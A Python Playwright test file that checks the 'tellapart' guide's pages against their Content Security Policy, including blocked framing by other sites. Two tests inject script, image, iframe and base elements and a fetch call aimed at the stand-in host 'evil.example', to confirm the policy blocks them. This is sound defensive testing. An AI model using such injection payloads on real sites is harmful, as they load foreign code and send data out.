"""The guide as `tellapart learn` serves it: its pages live with the policy that keeps foreign content out."""

import time

import pytest

from tellapart.guide.contents import LESSONS
from tellapart.guide.lessons._photo import CAT

NAMES = ["index", *(lesson.name for lesson in LESSONS)]

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (one) => window.violations.push(
  `${one.effectiveDirective}: ${one.blockedURI.slice(0, 80)}`));
"""


@pytest.fixture
def visit(browser, guide_address):
    """Opens a page of the served guide: `.troubles` are console messages and exceptions, `.foreign` other hosts."""
    context = browser.new_context(reduced_motion="reduce")
    context.add_init_script(WATCH)

    def open_page(name):
        page = context.new_page()
        page.troubles, page.foreign = [], []
        page.on("console", lambda said: page.troubles.append(said.text))
        page.on("pageerror", lambda error: page.troubles.append(str(error)))
        own = (guide_address, "data:", "blob:")
        page.on("request", lambda asked: asked.url.startswith(own) or page.foreign.append(asked.url))
        page.goto(f"{guide_address}{name}.html")
        page.wait_for_selector("html[data-ready]", timeout=60_000)
        return page

    yield open_page
    context.close()


def violations(page):
    return page.evaluate("window.violations")


def wait_until(page, holds):
    """Wait for an expression; Playwright's own way to wait needs `eval`, which the policy forbids."""
    end = time.monotonic() + 20
    while not page.evaluate(holds):
        assert time.monotonic() < end, holds
        page.wait_for_timeout(50)


def move_everything(page):
    """Move every control once and press every button that is there."""
    for control in page.locator("article input[type=range]:visible").all():
        control.focus()
        page.keyboard.press("ArrowRight")
    for control in page.locator("article input[type=checkbox]:visible").all():
        control.focus()
        page.keyboard.press("Space")
    for control in page.locator("article select:visible").all():
        control.select_option(index=0)
    for form in page.locator("form.question").all():
        form.locator("button").click()
    page.locator("#theme").click()


@pytest.mark.parametrize("name", NAMES)
def test_nothing_on_a_page_is_against_its_policy(visit, name):
    page = visit(name)
    move_everything(page)
    page.wait_for_timeout(200)
    assert violations(page) == []
    assert page.troubles == []
    assert page.foreign == []


def test_a_training_runs_under_the_policy(visit):
    page = visit("training")
    page.click("#run")
    wait_until(page, "Number(document.getElementById('standing').textContent.split(/[ ,]/)[1]) > 2")
    page.click("#run")
    assert violations(page) == []
    assert page.troubles == []


def test_a_photo_is_answered_under_the_policy(visit):
    page = visit("dog-or-cat")
    page.locator("#own-photo").set_input_files(CAT)
    page.wait_for_selector("#own-bars:not([hidden])", timeout=60_000)
    assert violations(page) == []
    assert page.troubles == []


@pytest.mark.parametrize(
    ("foreign", "directive"),
    [
        ("(() => { const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; return s; })()",
         "script-src-elem"),
        ("Object.assign(new Image(), { src: 'http://evil.example/x.png' })", "img-src"),
        ("Object.assign(document.createElement('iframe'), { src: 'http://evil.example/' })", "frame-src"),
        ("Object.assign(document.createElement('base'), { href: 'http://evil.example/' })", "base-uri"),
    ],
)  # fmt: skip
def test_what_is_foreign_is_not_loaded(visit, foreign, directive):
    page = visit("index")
    page.evaluate(f"() => {{ document.head.append({foreign}); }}")
    wait_until(page, "window.violations.length > 0")
    assert violations(page)[0].startswith(f"{directive}: http://evil.example")


def test_nothing_is_sent_to_another_host(visit):
    page = visit("index")
    assert (
        page.evaluate("fetch('http://evil.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'kept')")
        == "kept"
    )
    assert violations(page)[0].startswith("connect-src: http://evil.example")


def test_no_other_site_shows_the_guide_in_a_frame(browser, guide_address, tmp_path):
    (tmp_path / "site.html").write_text(f"<iframe src='{guide_address}' width=600 height=400></iframe>")
    context = browser.new_context()
    page, said = context.new_page(), []
    page.on("console", lambda message: said.append(message.text))
    page.goto((tmp_path / "site.html").as_uri())
    page.wait_for_timeout(500)
    (frame,) = page.frames[1:]
    assert "tellapart" not in frame.content()
    assert any("frame" in text.lower() for text in said)
    context.close()
